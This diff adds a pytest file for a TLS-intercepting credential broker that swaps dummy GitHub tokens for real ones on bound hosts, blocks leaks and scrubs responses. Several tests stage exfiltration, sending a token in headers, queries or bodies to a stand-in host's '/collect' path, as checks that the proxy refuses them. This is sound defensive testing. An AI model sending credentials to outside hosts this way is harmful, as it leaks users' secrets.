@@ -1,0 +1,312 @@
+"""Interception (DESIGN §1, §5, §6): TLS toward the client with the session CA, the dummy→real
+swap on bound hosts only, the canary, the real-secret block, response scrubbing, Host/SNI checks,
+upstream verification, plain HTTP after CONNECT and tunnel rules."""
+
+import base64
+import json
+import socket
+import ssl
+from pathlib import Path
+
+import pytest
+
+from conftest import (RawClient, allow_policy, assert_refusal, connect_to_arg, curl,
+                      pattern_bytes, sha256)
+
+GITHUB = "api.github.com"
+OTHER = "other.example.test"
+REAL = "ghp_R3alT0kenF0rTestsOnly0123456789abcd"  # shaped like a GitHub classic token
+
+
+def github_policy(port, *, extra_allow=(), tunnel_other=False):
+    allow = [{"host": GITHUB, "ports": [port]}, {"host": OTHER, "ports": [port]}]
+    if tunnel_other:
+        allow[1]["tunnel"] = True
+    allow += list(extra_allow)
+    return {
+        "version": 1,
+        "allow": allow,
+        "credentials": {
+            "github": {"type": "github", "env": ["GITHUB_TOKEN"], "hosts": [GITHUB]},
+        },
+    }
+
+
+@pytest.fixture
+def session(broker_factory, tls_upstream, pki):
+    """A broker with a GitHub credential bound to api.github.com, both test hosts mapped onto
+    the local HTTPS upstream."""
+    b = broker_factory(policy=github_policy(tls_upstream.port),
+                       connect_to=[connect_to_arg(GITHUB, tls_upstream.port),
+                                   connect_to_arg(OTHER, tls_upstream.port)],
+                       upstream_ca=pki.ca_cert, env={"GITHUB_TOKEN": REAL}, env_file=True)
+    b.dummy = b.session_env()["GITHUB_TOKEN"]
+    return b
+
+
+def url(host, port, path="/"):
+    return f"https://{host}:{port}{path}"
+
+
+def assert_nothing_written_contains(b, *values):
+    """No byte the broker wrote (audit log, env file, CA dir, its stderr) holds a real value."""
+    files = [p for p in b.dir.rglob("*") if p.is_file() and not p.name.startswith("policy")]
+    assert files
+    for p in files:
+        data = p.read_bytes()
+        for v in values:
+            assert v.encode() not in data, f"{p} contains a real secret"
+            assert base64.b64encode(v.encode()) not in data, f"{p} contains a real secret (b64)"
+
+
+def test_dummy_has_the_real_shape_and_is_not_the_real_value(session):
+    d = session.dummy
+    assert d != REAL
+    assert d.startswith("ghp_") and len(d) == len(REAL)
+    assert all(a.isdigit() == b.isdigit() and a.isupper() == b.isupper()
+               for a, b in zip(d[4:], REAL[4:]))
+    env = session.session_env()
+    assert env["SSL_CERT_FILE"] == env["REQUESTS_CA_BUNDLE"] == env["GIT_SSL_CAINFO"]
+    bundle = Path(env["SSL_CERT_FILE"]).read_text()
+    assert session.ca_cert.read_text().strip() in bundle
+    assert_nothing_written_contains(session, REAL)
+
+
+def test_dummy_becomes_real_on_the_bound_host(session, tls_upstream):
+    r = curl(url(GITHUB, tls_upstream.port, "/user"), proxy=session.proxy,
+             cacert=session.ca_cert, args=["-H", f"Authorization: token {session.dummy}"])
+    assert r.returncode == 0, r.stderr
+    assert r.status == 200
+    seen = tls_upstream.requests[-1]["headers"]
+    assert seen["Authorization"] == f"token {REAL}"
+    # the echo of the real value came back scrubbed to the dummy
+    assert r.json()["headers"]["authorization"] == f"token {session.dummy}"
+    rec = session.wait_for_records(lambda x: x.get("event") == "request")
+    assert rec and rec[-1]["credential"] == "github"
+    assert rec[-1]["scheme"] == "https" and rec[-1]["method"] == "GET"
+    assert rec[-1]["path"] == "/user" and rec[-1]["status"] == 200
+    session.stop()
+    assert_nothing_written_contains(session, REAL)
+
+
+def test_basic_credentials_as_git_sends_them(session, tls_upstream):
+    for user, password in (("x-access-token", session.dummy), (session.dummy, "x-oauth-basic")):
+        r = curl(url(GITHUB, tls_upstream.port, "/repo.git/info/refs"), proxy=session.proxy,
+                 cacert=session.ca_cert, args=["-u", f"{user}:{password}"])
+        assert r.status == 200, r.stderr
+        sent = tls_upstream.requests[-1]["headers"]["Authorization"]
+        decoded = base64.b64decode(sent.split()[1]).decode()
+        assert decoded == f"{user}:{password}".replace(session.dummy, REAL)
+
+
+def test_dummy_to_an_unbound_host_is_blocked_and_recorded(session, tls_upstream):
+    r = curl(url(OTHER, tls_upstream.port, "/collect"), proxy=session.proxy,
+             cacert=session.ca_cert, args=["-H", f"Authorization: Bearer {session.dummy}"])
+    assert_refusal(r.status, r.headers, r.body, "credential_not_bound", 403,
+                   session=session.session, host=OTHER)
+    assert tls_upstream.requests == []
+    rec = session.wait_for_records(lambda x: x.get("event") == "exfiltration_blocked")
+    assert len(rec) == 1
+    assert rec[0]["credential"] == "github" and rec[0]["host"] == OTHER
+    assert rec[0]["decision"] == "deny"
+    # ...also in a query parameter or a request body
+    r = curl(url(OTHER, tls_upstream.port, f"/c?token={session.dummy}"), proxy=session.proxy,
+             cacert=session.ca_cert)
+    assert r.status == 403 and r.headers["x-broker-error"] == "credential_not_bound"
+    r = curl(url(OTHER, tls_upstream.port, "/c"), proxy=session.proxy, cacert=session.ca_cert,
+             args=["--data-binary", "x" * 70000 + session.dummy + "y" * 10])
+    assert r.status == 403 and r.headers["x-broker-error"] == "credential_not_bound"
+    assert all(req["body_length"] != 70000 + len(session.dummy) + 10
+               for req in tls_upstream.requests if "body_length" in req)
+
+
+@pytest.mark.parametrize("where", ["header", "query", "body-length", "body-chunked", "basic"])
+def test_real_value_in_a_request_is_blocked(session, tls_upstream, where, tmp_path):
+    args = []
+    path = "/x"
+    if where == "header":
+        args = ["-H", f"X-Leak: a{REAL}b"]
+    elif where == "query":
+        path = f"/x?q={REAL}"
+    elif where == "basic":
+        args = ["-u", f"x-access-token:{REAL}"]
+    else:
+        body = tmp_path / "body"
+        body.write_bytes(b"a" * 100000 + REAL.encode() + b"b" * 5)
+        args = ["--data-binary", f"@{body}"]
+        if where == "body-chunked":
+            args += ["-H", "Transfer-Encoding: chunked"]
+    r = curl(url(GITHUB, tls_upstream.port, path), proxy=session.proxy, cacert=session.ca_cert,
+             args=args)
+    doc = assert_refusal(r.status, r.headers, r.body, "real_secret_blocked", 403,
+                         session=session.session)
+    assert REAL not in json.dumps(doc)
+    # the upstream never received a request carrying it
+    assert all(req["headers"].get("X-Leak") is None for req in tls_upstream.requests)
+    assert not any(REAL in req["path"] for req in tls_upstream.requests)
+    session.stop()
+    assert_nothing_written_contains(session, REAL)
+
+
+@pytest.mark.parametrize("path", ["/reflect/chunked/1", "/reflect/chunked/5",
+                                  "/reflect/chunked/17", "/reflect/length/0"])
+def test_real_values_in_responses_become_dummies(session, tls_upstream, path):
+    r = curl(url(GITHUB, tls_upstream.port, path), proxy=session.proxy, cacert=session.ca_cert,
+             args=["-H", f"Authorization: Bearer {session.dummy}"])
+    assert r.status == 200, r.stderr
+    assert tls_upstream.requests[-1]["headers"]["Authorization"] == f"Bearer {REAL}"
+    assert REAL.encode() not in r.body
+    assert r.body.count(session.dummy.encode()) == 4
+    assert r.headers["x-seen-authorization"] == f"Bearer {session.dummy}"
+
+
+def test_large_bodies_stream_through_interception(session, tls_upstream, tmp_path):
+    n = 8 * 1024 * 1024
+    r = curl(url(GITHUB, tls_upstream.port, f"/chunked/{n}"), proxy=session.proxy,
+             cacert=session.ca_cert)
+    assert r.status == 200 and sha256(r.body) == sha256(pattern_bytes(n))
+    r = curl(url(GITHUB, tls_upstream.port, f"/bytes/{n}"), proxy=session.proxy,
+             cacert=session.ca_cert)
+    assert r.status == 200 and sha256(r.body) == sha256(pattern_bytes(n))
+    upload = tmp_path / "up"
+    upload.write_bytes(pattern_bytes(3 * 1024 * 1024))
+    r = curl(url(GITHUB, tls_upstream.port, "/up"), proxy=session.proxy, cacert=session.ca_cert,
+             args=["-H", "Transfer-Encoding: chunked", "--data-binary", f"@{upload}"])
+    assert r.status == 200
+    assert r.json()["body_sha256"] == sha256(upload.read_bytes())
+
+
+def test_keep_alive_inside_the_intercepted_connection(session, tls_upstream):
+    urls = [url(GITHUB, tls_upstream.port, f"/item/{i}") for i in range(20)]
+    r = curl(*urls, proxy=session.proxy, cacert=session.ca_cert)
+    assert r.statuses == [200] * 20
+    assert sum(r.new_connections) == 1
+    assert tls_upstream.connections == 1  # one pooled upstream connection served them all
+    recs = session.wait_for_records(lambda x: x.get("event") == "request", count=20)
+    assert [x["path"] for x in recs] == [f"/item/{i}" for i in range(20)]
+
+
+def test_pooled_upstream_serves_new_client_connections(session, tls_upstream):
+    for i in range(5):
+        r = curl(url(GITHUB, tls_upstream.port, f"/n/{i}"), proxy=session.proxy,
+                 cacert=session.ca_cert)
+        assert r.status == 200
+    assert tls_upstream.connections <= 2  # two worker threads, one pool each
+
+
+def test_denied_connect_is_answered_inside_tls(session, tls_upstream):
+    r = curl("https://denied.example.test/", proxy=session.proxy, cacert=session.ca_cert)
+    assert r.returncode == 0, r.stderr
+    doc = assert_refusal(r.status, r.headers, r.body, "policy_denied", 403,
+                         session=session.session, host="denied.example.test")
+    assert doc["rule"] == "default_deny"
+    recs = session.wait_for_records(lambda x: x.get("method") == "CONNECT")
+    assert recs[0]["event"] == "refused" and recs[0]["decision"] == "deny"
+
+
+def test_host_header_must_match_the_connect_target(session, tls_upstream):
+    r = curl(url(GITHUB, tls_upstream.port), proxy=session.proxy, cacert=session.ca_cert,
+             args=["-H", f"Host: {OTHER}:{tls_upstream.port}"])
+    assert_refusal(r.status, r.headers, r.body, "host_mismatch", 421)
+    assert tls_upstream.requests == []
+
+
+def tls_through_connect(b, target, server_name, ca):
+    raw = socket.create_connection(("127.0.0.1", b.port), timeout=10)
+    raw.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
+    head = b""
+    while b"\r\n\r\n" not in head:
+        head += raw.recv(1)
+    assert head.startswith(b"HTTP/1.1 200")
+    ctx = ssl.create_default_context(cafile=str(ca))
+    ctx.check_hostname = False
+    return ctx.wrap_socket(raw, server_hostname=server_name)
+
+
+def test_sni_must_match_the_connect_target(session, tls_upstream):
+    target = f"{GITHUB}:{tls_upstream.port}"
+    s = tls_through_connect(session, target, OTHER, session.ca_cert)
+    s.sendall(f"GET / HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
+    data = s.recv(65536)
+    assert data.startswith(b"HTTP/1.1 421"), data
+    assert b'"host_mismatch"' in data
+    s.close()
+    assert tls_upstream.requests == []
+
+
+def test_leaf_names_the_connect_host(session, tls_upstream):
+    s = tls_through_connect(session, f"{GITHUB}:{tls_upstream.port}", GITHUB, session.ca_cert)
+    cert = s.getpeercert()
+    assert ("DNS", GITHUB) in cert["subjectAltName"]
+    assert s.selected_alpn_protocol() in (None, "http/1.1")
+    s.close()
+
+
+def test_unverifiable_upstream_is_a_502_never_a_downgrade(broker_factory, tls_upstream):
+    b = broker_factory(policy=allow_policy(GITHUB, ports=[tls_upstream.port]),
+                       connect_to=[connect_to_arg(GITHUB, tls_upstream.port)])
+    r = curl(url(GITHUB, tls_upstream.port), proxy=b.proxy, cacert=b.ca_cert)
+    doc = assert_refusal(r.status, r.headers, r.body, "upstream_tls_failed", 502)
+    assert "verif" in doc["message"]
+    assert tls_upstream.requests == []
+
+
+def test_upstream_name_is_verified_even_through_connect_to(broker_factory, tls_upstream, pki):
+    # The test leaf does not name evil.example.test: mapping it onto the upstream must fail.
+    b = broker_factory(policy=allow_policy("evil.example.test", ports=[tls_upstream.port]),
+                       connect_to=[connect_to_arg("evil.example.test", tls_upstream.port)],
+                       upstream_ca=pki.ca_cert)
+    r = curl(url("evil.example.test", tls_upstream.port), proxy=b.proxy, cacert=b.ca_cert)
+    assert_refusal(r.status, r.headers, r.body, "upstream_tls_failed", 502)
+
+
+def test_plain_http_after_connect_is_served_as_http(broker_factory, upstream):
+    b = broker_factory(policy=allow_policy(GITHUB, ports=[upstream.port]),
+                       connect_to=[connect_to_arg(GITHUB, upstream.port)])
+    with RawClient(b.port) as c:
+        target = f"{GITHUB}:{upstream.port}"
+        c.send(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
+        assert c.read_response(head_only=True).status == 200
+        c.send(f"GET /plain HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
+        resp = c.read_response()
+        assert resp.status == 200
+        assert json.loads(resp.body)["path"] == "/plain"
+    rec = b.wait_for_records(lambda x: x.get("event") == "request")
+    assert rec[0]["scheme"] == "http" and rec[0]["path"] == "/plain"
+
+
+def test_non_http_bytes_after_connect_are_refused(broker_factory, upstream):
+    b = broker_factory(policy=allow_policy(GITHUB, ports=[upstream.port]),
+                       connect_to=[connect_to_arg(GITHUB, upstream.port)])
+    with RawClient(b.port) as c:
+        target = f"{GITHUB}:{upstream.port}"
+        c.send(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
+        assert c.read_response(head_only=True).status == 200
+        c.send(b"SSH-2.0-OpenSSH_9.2\r\n\x00\x01\x02\r\n\r\n")
+        resp = c.read_response()
+        assert_refusal(resp.status, resp.headers, resp.body, "bad_request", 400)
+    assert upstream.requests == []
+
+
+def test_tunnel_rule_is_not_intercepted(broker_factory, tls_upstream, pki):
+    b = broker_factory(policy=allow_policy(OTHER, ports=[tls_upstream.port], tunnel=True),
+                       connect_to=[connect_to_arg(OTHER, tls_upstream.port)])
+    # The client verifies the upstream's own certificate: nothing in between.
+    r = curl(url(OTHER, tls_upstream.port, "/t"), proxy=b.proxy, cacert=pki.ca_cert)
+    assert r.status == 200, r.stderr
+    rec = b.wait_for_records(lambda x: x.get("event") == "tunnel")
+    assert rec[0]["method"] == "CONNECT" and rec[0]["status"] == 200
+
+
+def test_policy_methods_and_paths_apply_inside_interception(broker_factory, tls_upstream, pki):
+    policy = {"version": 1, "allow": [{"host": GITHUB, "ports": [tls_upstream.port],
+                                        "methods": ["GET"], "paths": ["/repos/*"]}]}
+    b = broker_factory(policy=policy, connect_to=[connect_to_arg(GITHUB, tls_upstream.port)],
+                       upstream_ca=pki.ca_cert)
+    ok = curl(url(GITHUB, tls_upstream.port, "/repos/o/r"), proxy=b.proxy, cacert=b.ca_cert)
+    assert ok.status == 200
+    for args, path in ((["-X", "DELETE"], "/repos/o/r"), ([], "/user")):
+        r = curl(url(GITHUB, tls_upstream.port, path), proxy=b.proxy, cacert=b.ca_cert,
+                 args=args)
+        assert_refusal(r.status, r.headers, r.body, "policy_denied", 403)
+    assert [req["path"] for req in tls_upstream.requests] == ["/repos/o/r"]
